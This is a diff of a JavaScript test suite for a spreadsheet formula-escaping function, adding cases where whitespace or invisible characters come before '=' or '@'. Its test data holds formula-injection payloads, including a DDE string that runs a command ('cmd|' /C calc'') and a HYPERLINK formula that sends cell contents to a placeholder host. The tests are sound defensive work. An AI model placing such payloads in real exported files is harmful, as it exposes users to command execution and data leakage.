@@ -11,7 +11,21 @@ describe('a cell that no spreadsheet reads as a formula is unchanged', () => {
     ...['-', '+', '=', '@', '--', '---', '+/-', '-/-', '=)', '- - -', '+-', '—', '…'],
     ...['-33.8688, 151.2093', '-33.8688,151.2093', '+48.8577+002.2950/', '-1.2921 36.8219', '-23-046/'],
     ...['-5-10', '-3 – 4', '-10..10', '-1/2', '-01:30', '-44-03-15', '+10:00'],
-    ...['\tplain', '\nplain', 'a=b', ' =1', "'quoted'", "it's", "'", "''", '', '5+5', 'x@y.org', '2024-01-31'],
+    ...[
+      '\tplain',
+      '\nplain',
+      'a=b',
+      ' -5',
+      '\u00a0+33 6 12',
+      "'quoted'",
+      "it's",
+      "'",
+      "''",
+      '',
+      '5+5',
+      'x@y.org',
+      '2024-01-31',
+    ],
   ])('%j', (cell) => {
     expect(escapeFormula(cell)).toBe(cell);
     expect(unescapeFormula(cell)).toBe(cell);
@@ -20,6 +34,7 @@ describe('a cell that no spreadsheet reads as a formula is unchanged', () => {
 
 describe('a cell that may be a formula gets an apostrophe', () => {
   it.each([
+    ...[' =1', '\u00a0=A1', '\u3000=A1', '\ufeff=A1', '\u200b=A1', ' \u200b @SUM(A1)', '\u00a0\t=A1'],
     ...['=1+1', '=A1', '@SUM(A1)', '@home', '+A1', '-A1', '-cmd', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"],
     ...[
       '＝1+1',
@@ -46,6 +61,8 @@ describe('a cell that may be a formula gets an apostrophe', () => {
 describe('a part of a cell that may be a formula gets an apostrophe: many systems divide cells at semicolons', () => {
   it.each([
     ["x;=cmd|' /C calc'!A0", "x;'=cmd|' /C calc'!A0"],
+    ['a; =SUM(A1)', "a;' =SUM(A1)"],
+    ['a;\u00a0=SUM(A1)', "a;'\u00a0=SUM(A1)"],
     [';@SUM(A1)', ";'@SUM(A1)"],
     ['a\n=HYPERLINK("http://x?"&A1)', 'a\n\'=HYPERLINK("http://x?"&A1)'],
     ['a;\n+SUM (A1)', "a;\n'+SUM (A1)"],
@@ -57,7 +74,7 @@ describe('a part of a cell that may be a formula gets an apostrophe: many system
     expect(unescapeFormula(escaped)).toBe(cell);
   });
 
-  it.each(['nice ;-D', 'a;-b', 'List:\n- one\n- two words (or so)\n- three!', '+33 6;+33 7', 'a; =SUM(A1)'])(
+  it.each(['nice ;-D', 'a;-b', 'List:\n- one\n- two words (or so)\n- three!', '+33 6;+33 7', 'a; -b'])(
     '%j is unchanged',
     (cell) => expect(escapeFormula(cell)).toBe(cell),
   );
